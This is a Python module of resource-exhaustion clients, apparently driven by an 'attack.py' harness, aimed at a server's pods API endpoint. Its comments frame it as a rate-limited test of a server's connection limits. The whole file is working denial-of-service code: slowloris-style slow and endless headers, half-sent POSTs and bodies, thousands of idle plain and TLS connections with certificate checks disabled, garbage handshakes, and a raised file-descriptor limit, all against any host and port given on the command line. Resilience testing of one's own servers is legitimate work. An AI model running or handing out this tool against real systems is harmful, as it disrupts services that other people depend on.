"""Clients without credentials that use up a server's resources; attack.py runs this.

Each kind keeps a number of connections open, and opens a new one when the server closes one. The
number of new connections per second is limited, so that the attack measures the server's limits,
not the speed of the machine.
"""

from __future__ import annotations

import asyncio
import json
import logging
import resource
import ssl
import sys
from asyncio import sslproto
from collections import Counter
from collections.abc import Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass, field
from functools import cache

# Two thousand connections with asyncio's own buffer would take half a gigabyte here.
sslproto.SSLProtocol.max_size = 16 * 1024
PODS = "/api/v1/namespaces/default/pods"
BODY = 3_000_000
Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]


@dataclass
class Target:
    """The server under attack, and the connections opened so far."""

    host: str
    port: int
    per_second: float
    opened: Counter[str] = field(default_factory=Counter)
    failed: Counter[str] = field(default_factory=Counter)
    _next: float = 0.0

    def head(self, length: int) -> bytes:
        """Return the header of a POST with this content length."""
        return (
            f"POST {PODS} HTTP/1.1\r\nhost: {self.host}:{self.port}\r\n"
            f"content-type: application/json\r\ncontent-length: {length}\r\n\r\n"
        ).encode()

    async def turn(self) -> None:
        """Wait until one more connection may be opened."""
        now = asyncio.get_running_loop().time()
        self._next = max(self._next, now) + 1 / self.per_second
        await asyncio.sleep(self._next - now)

    async def connect(self, *, tls: bool) -> Streams:
        """Open a connection."""
        context = _without_verification() if tls else None
        return await asyncio.open_connection(self.host, self.port, ssl=context)


@cache
def _without_verification() -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context


async def half_post(target: Target, streams: Streams) -> None:
    """Start a body and stop."""
    streams[1].write(target.head(BODY) + b"{")
    await streams[0].read()


async def half_body(target: Target, streams: Streams) -> None:
    """Send half of a body of three megabytes and stop."""
    await _send_body(target, streams, 50)


async def idle(_target: Target, streams: Streams) -> None:
    """Send nothing."""
    await streams[0].read()


async def slow_header(target: Target, streams: Streams) -> None:
    """Send one byte of a header per second."""
    for byte in target.head(0):
        streams[1].write(bytes([byte]))
        await streams[1].drain()
        with suppress(TimeoutError):
            if not await asyncio.wait_for(streams[0].read(1), 1.0):
                return


async def garbage(_target: Target, streams: Streams) -> None:
    """Send bytes that are not TLS."""
    streams[1].write(b"\x16\x03\x01\x40\x00" + b"garbage" * 1000)
    await streams[0].read()


async def big_header(target: Target, streams: Streams) -> None:
    """Send a header that does not end."""
    streams[1].write(target.head(0)[:-2])
    for _ in range(100):
        streams[1].write(b"x-filler: " + b"a" * 8000 + b"\r\n")
        await streams[1].drain()
    await streams[0].read()


async def whole_body(target: Target, streams: Streams) -> None:
    """Send a body of three megabytes."""
    await _send_body(target, streams, 100)


async def _send_body(target: Target, streams: Streams, percent: int) -> None:
    streams[1].write(target.head(BODY))
    for _ in range(percent):
        streams[1].write(b"a" * (BODY // 100))
        await streams[1].drain()
    await streams[0].read()


KINDS: dict[str, tuple[int, bool, Callable[[Target, Streams], Awaitable[None]]]] = {
    "half-sent POSTs": (650, True, half_post),
    "half bodies of 3 MB": (200, True, half_body),
    "idle connections": (1050, False, idle),
    "idle TLS connections": (200, True, idle),
    "slow headers": (100, True, slow_header),
    "garbage handshakes": (20, False, garbage),
    "endless headers": (20, True, big_header),
    "whole bodies of 3 MB": (10, True, whole_body),
}
"""Number of connections of each kind, whether they use TLS, and the function that sends."""


async def attack(target: Target, seconds: float) -> None:
    """Run every kind for some seconds."""
    async with asyncio.TaskGroup() as group:
        tasks = [
            group.create_task(_hold(target, kind))
            for kind, (count, _, _) in KINDS.items()
            for _ in range(count)
        ]
        await asyncio.sleep(seconds)
        for task in tasks:
            task.cancel()


async def _hold(target: Target, kind: str) -> None:
    _, tls, act = KINDS[kind]
    while True:
        await target.turn()
        try:
            streams = await target.connect(tls=tls)
        except (OSError, asyncio.IncompleteReadError):
            target.failed[kind] += 1
            continue
        target.opened[kind] += 1
        try:
            await act(target, streams)
        except (OSError, asyncio.IncompleteReadError):
            pass
        finally:
            streams[1].transport.abort()


def main(host: str, port: str, per_second: str, seconds: str) -> None:
    """Attack one address and print how many connections were opened."""
    logging.getLogger("asyncio").setLevel(
        logging.CRITICAL
    )  # the server closes connections, as it should
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    target = Target(host, int(port), float(per_second))
    asyncio.run(attack(target, float(seconds)))
    print(json.dumps({"opened": target.opened, "failed": target.failed}))


if __name__ == "__main__":
    main(*sys.argv[1:])
